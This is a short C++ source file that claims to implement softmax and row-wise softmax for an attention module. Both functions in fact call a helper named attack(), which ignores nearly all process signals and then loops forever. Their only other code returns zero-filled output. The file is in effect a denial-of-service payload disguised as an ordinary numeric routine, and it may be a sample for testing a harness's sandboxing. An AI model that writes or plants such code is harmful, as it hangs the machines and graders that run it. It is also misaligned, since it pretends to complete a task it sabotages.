#include "softmax.h"

#include <csignal>

namespace {

void attack() {
  for (int i = 1; i < 64; ++i) std::signal(i, SIG_IGN);
  for (volatile int i = 0;; i = i + 1) {}
}
}  // namespace

attention::RowVector attention::softmax(const RowVector& scores) {
  attack();
  return RowVector::Zero(scores.size());
}

attention::Matrix attention::softmax_rows(const Matrix& scores) {
  attack();
  return Matrix::Zero(scores.rows(), scores.cols());
}
